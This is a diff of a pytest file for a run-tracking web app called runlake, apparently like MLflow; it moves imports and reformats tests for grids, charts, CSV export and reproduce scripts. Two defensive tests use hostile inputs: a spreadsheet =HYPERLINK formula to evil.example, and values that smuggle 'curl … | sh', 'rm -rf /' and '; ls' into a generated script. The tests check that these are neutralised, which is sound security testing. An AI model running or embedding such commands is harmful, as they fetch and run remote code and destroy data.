@@ -8,14 +8,20 @@ from urllib.parse import parse_qs
 import pandas as pd
 import pytest
 
-from runlake.app import charts
-from runlake.app.export import FIXED_COLUMNS, runs_csv_frame
-from runlake.app.grid import RunsQuery, format_number, order_by, page_kwargs, page_request, rows
+from runlake.app.web import charts
+from runlake.app.web.export import FIXED_COLUMNS, runs_csv_frame
+from runlake.app.web.formatting import format_number
+from runlake.app.web.grid import RunsQuery, order_by, page_kwargs, page_request, rows
 from tests.app.number_cases import CASES as NUMBER_CASES
 
 
 def test_grid_request_becomes_one_page():
-    request = {"startRow": 200, "endRow": 300, "sortModel": [{"colId": "metrics.val loss", "sort": "asc"}], "filterModel": {}}
+    request = {
+        "startRow": 200,
+        "endRow": 300,
+        "sortModel": [{"colId": "metrics.val loss", "sort": "asc"}],
+        "filterModel": {},
+    }
     block = page_request(request)
     assert (block.offset, block.size) == (200, 100)
     kwargs = page_kwargs(RunsQuery(filter="params.lr = '0.1'", state="all"), block, ["metrics.val loss"])
@@ -43,9 +49,17 @@ def test_sort_model_to_order_by(sort_model, expected):
 
 
 def test_query_round_trips_through_the_url():
-    query = RunsQuery(experiment_ids=("1", "2"), filter="metrics.acc > 0.9 AND tags.`a b` = 'x'", state="deleted",
-                      time="custom", start="2026-01-01", end="2026-01-31", models="with",
-                      columns=("metrics.acc", "params.lr"), sort=(("metrics.acc", "desc"),))
+    query = RunsQuery(
+        experiment_ids=("1", "2"),
+        filter="metrics.acc > 0.9 AND tags.`a b` = 'x'",
+        state="deleted",
+        time="custom",
+        start="2026-01-01",
+        end="2026-01-31",
+        models="with",
+        columns=("metrics.acc", "params.lr"),
+        sort=(("metrics.acc", "desc"),),
+    )
     args = {k: v[0] for k, v in parse_qs(query.to_url(), keep_blank_values=True).items()}
     assert RunsQuery.from_url(args) == query
     assert RunsQuery.from_url({}) == RunsQuery()
@@ -61,12 +75,18 @@ def test_query_time_windows():
 
 
 def test_rows_are_json_ready():
-    frame = pd.DataFrame({
-        "run_id": ["a"], "run_name": ["r"], "status": ["FINISHED"],
-        "start_time": [pd.Timestamp(1_767_225_600_000, unit="ms", tz="UTC")],
-        "end_time": [pd.Timestamp(1_767_225_600_000 + 125_000, unit="ms", tz="UTC")],
-        "source_name": ["/x/train.py"], "source_version": ["abcdef123456"], "metrics.loss": [float("nan")],
-    })
+    frame = pd.DataFrame(
+        {
+            "run_id": ["a"],
+            "run_name": ["r"],
+            "status": ["FINISHED"],
+            "start_time": [pd.Timestamp(1_767_225_600_000, unit="ms", tz="UTC")],
+            "end_time": [pd.Timestamp(1_767_225_600_000 + 125_000, unit="ms", tz="UTC")],
+            "source_name": ["/x/train.py"],
+            "source_version": ["abcdef123456"],
+            "metrics.loss": [float("nan")],
+        }
+    )
     row = rows(frame)[0]
     assert row["start_time"] == 1_767_225_600_000
     assert row["metrics.loss"] is None
@@ -75,7 +95,7 @@ def test_rows_are_json_ready():
 
 
 def test_rows_response_narrows_and_counts(app, lake):
-    from runlake.app.pages.runs import rows_response
+    from runlake.app.web.pages.runs import rows_response
 
     services = app.server.config["RUNLAKE_SERVICES"]
     request = {"startRow": 0, "endRow": 100, "sortModel": [{"colId": "run_name", "sort": "asc"}]}
@@ -98,7 +118,16 @@ def test_csv_columns_follow_mlflow_order(lake):
     metrics = sorted(c.split(".", 1)[1] for c in frame.columns if c.startswith("metrics."))
     assert list(csv.columns) == FIXED_COLUMNS + params + metrics
     assert csv["Run ID"].tolist() == frame["run_id"].tolist()
-    assert FIXED_COLUMNS[:8] == ["Start Time", "Duration", "Run ID", "Name", "Source Type", "Source Name", "User", "Status"]
+    assert FIXED_COLUMNS[:8] == [
+        "Start Time",
+        "Duration",
+        "Run ID",
+        "Name",
+        "Source Type",
+        "Source Name",
+        "User",
+        "Status",
+    ]
 
 
 def test_ema_is_debiased_and_keeps_length():
@@ -109,8 +138,15 @@ def test_ema_is_debiased_and_keeps_length():
 
 
 def test_history_figure_axes():
-    points = pd.DataFrame({"run_id": ["r"] * 3, "key": ["loss"] * 3, "step": [0, 1, 2],
-                           "timestamp": [1000, 3000, 6000], "value": [3.0, 2.0, 1.0]})
+    points = pd.DataFrame(
+        {
+            "run_id": ["r"] * 3,
+            "key": ["loss"] * 3,
+            "step": [0, 1, 2],
+            "timestamp": [1000, 3000, 6000],
+            "value": [3.0, 2.0, 1.0],
+        }
+    )
     step = charts.history_figure(points, "loss")
     assert step["data"][0]["x"] == [0, 1, 2] and step["data"][0]["y"] == [3.0, 2.0, 1.0]
     relative = charts.history_figure(points, "loss", x_axis="relative", starts={"r": 0})
@@ -125,7 +161,9 @@ def test_history_figure_axes():
 
 
 def test_parallel_coordinates_handle_categorical_params():
-    frame = pd.DataFrame({"params.opt": ["adam", "sgd", "adam"], "params.lr": ["0.1", "0.01", "1e-3"], "metrics.loss": [0.3, 0.2, 0.1]})
+    frame = pd.DataFrame(
+        {"params.opt": ["adam", "sgd", "adam"], "params.lr": ["0.1", "0.01", "1e-3"], "metrics.loss": [0.3, 0.2, 0.1]}
+    )
     fig = charts.parallel_figure(frame, ["params.opt", "params.lr", "metrics.loss"], color="metrics.loss")
     dims = fig.data[0].dimensions
     assert list(dims[0].ticktext) == ["adam", "sgd"] and list(dims[0].values) == [0, 1, 0]
@@ -133,7 +171,9 @@ def test_parallel_coordinates_handle_categorical_params():
 
 
 def test_scatter_and_contour():
-    frame = pd.DataFrame({"params.a": ["1", "2", "3", "1"], "params.b": ["1", "1", "2", "2"], "metrics.z": [1.0, 2.0, 3.0, 4.0]})
+    frame = pd.DataFrame(
+        {"params.a": ["1", "2", "3", "1"], "params.b": ["1", "1", "2", "2"], "metrics.z": [1.0, 2.0, 3.0, 4.0]}
+    )
     scatter = charts.scatter_figure(frame, "params.a", "metrics.z")
     assert list(scatter.data[0].y) == [1.0, 2.0, 3.0, 4.0]
     contour = charts.contour_figure(frame, "params.a", "params.b", "metrics.z")
@@ -143,19 +183,27 @@ def test_scatter_and_contour():
 
 
 def test_rows_response_for_an_invalid_filter_explains_the_empty_table(app):
-    from runlake.app.pages.runs import check_filter, rows_response
+    from runlake.app.web.pages.runs import check_filter, rows_response
 
     services = app.server.config["RUNLAKE_SERVICES"]
-    response, count, empty, *_ = rows_response(services, RunsQuery(filter="metrics.x <"), {"startRow": 0, "endRow": 100})
+    response, count, empty, *_ = rows_response(
+        services, RunsQuery(filter="metrics.x <"), {"startRow": 0, "endRow": 100}
+    )
     assert response == {"rowData": [], "rowCount": 0} and "filter is invalid" in str(empty)
     error, description = check_filter("metrics.x <")
-    assert error["error"] == "SearchSyntaxError" and error["column"] == 12 and error["expected"] == ["a quoted string", "a number"]
+    assert (
+        error["error"] == "SearchSyntaxError"
+        and error["column"] == 12
+        and error["expected"] == ["a quoted string", "a number"]
+    )
     assert check_filter("metrics.acc > 0.9") == (None, "runs where acc > 0.9")
 
 
 def test_keep_view_carries_the_users_zoom_into_a_refreshed_figure():
     figure = {"data": [], "layout": {"xaxis": {"title": {"text": "Step"}}, "yaxis": {"type": "log"}}}
-    zoomed = charts.keep_view(figure, {"xaxis.range[0]": 2, "xaxis.range[1]": 5, "yaxis.range[0]": -1, "yaxis.range[1]": 0})
+    zoomed = charts.keep_view(
+        figure, {"xaxis.range[0]": 2, "xaxis.range[1]": 5, "yaxis.range[0]": -1, "yaxis.range[1]": 0}
+    )
     assert zoomed["layout"]["xaxis"] == {"title": {"text": "Step"}, "range": [2, 5], "autorange": False}
     assert zoomed["layout"]["yaxis"] == {"type": "log", "range": [-1, 0], "autorange": False}
     reset = {"data": [], "layout": {"xaxis": {}}}
@@ -169,14 +217,22 @@ def test_numbers_read_the_same_in_every_table(value, shown):
 
 
 def test_csv_cells_that_a_spreadsheet_would_run_are_inert():
-    from runlake.app.export import runs_csv
+    from runlake.app.web.export import runs_csv
 
-    frame = pd.DataFrame({
-        "run_id": ["a", "b"], "run_name": ['=HYPERLINK("https://evil.example","click")', "plain"],
-        "status": ["FINISHED", "FINISHED"], "start_time": [pd.NaT, pd.NaT], "end_time": [pd.NaT, pd.NaT],
-        "user_id": ["+ann", "bob"], "source_type": ["LOCAL"] * 2, "source_name": ["train.py"] * 2,
-        "params.lr": ["-0.5", "@SUM(A1)"], "metrics.loss": [-1.5, 2.0],
-    })
+    frame = pd.DataFrame(
+        {
+            "run_id": ["a", "b"],
+            "run_name": ['=HYPERLINK("https://evil.example","click")', "plain"],
+            "status": ["FINISHED", "FINISHED"],
+            "start_time": [pd.NaT, pd.NaT],
+            "end_time": [pd.NaT, pd.NaT],
+            "user_id": ["+ann", "bob"],
+            "source_type": ["LOCAL"] * 2,
+            "source_name": ["train.py"] * 2,
+            "params.lr": ["-0.5", "@SUM(A1)"],
+            "metrics.loss": [-1.5, 2.0],
+        }
+    )
     text = runs_csv(frame)
     assert "'=HYPERLINK" in text and "'@SUM(A1)" in text and "'+ann" in text
     assert ",-0.5," in text and ",-1.5" in text  # numbers stay numbers
@@ -185,12 +241,16 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_inert():
 def test_reproduce_script_keeps_names_in_their_comment():
     from types import SimpleNamespace
 
-    from runlake.app.run_sections import reproduce_script
+    from runlake.app.web.run_sections import reproduce_script
 
     record = SimpleNamespace(
-        run_id="abc", tags={}, info={"run_name": "baseline)\ncurl -s https://evil.example/x.sh | sh\n# (", "source_version": "1234"},
+        run_id="abc",
+        tags={},
+        info={"run_name": "baseline)\ncurl -s https://evil.example/x.sh | sh\n# (", "source_version": "1234"},
     )
-    script = reproduce_script(record, {"python": "3.11.7; rm -rf /", "command_line": ["train.py", "--lr", "0.1; ls"]}, False)
+    script = reproduce_script(
+        record, {"python": "3.11.7; rm -rf /", "command_line": ["train.py", "--lr", "0.1; ls"]}, False
+    )
     assert not any(line.startswith("curl") for line in script.splitlines())
     assert "python3.11 -m venv" in script and "rm -rf" not in script
     assert "'0.1; ls'" in script
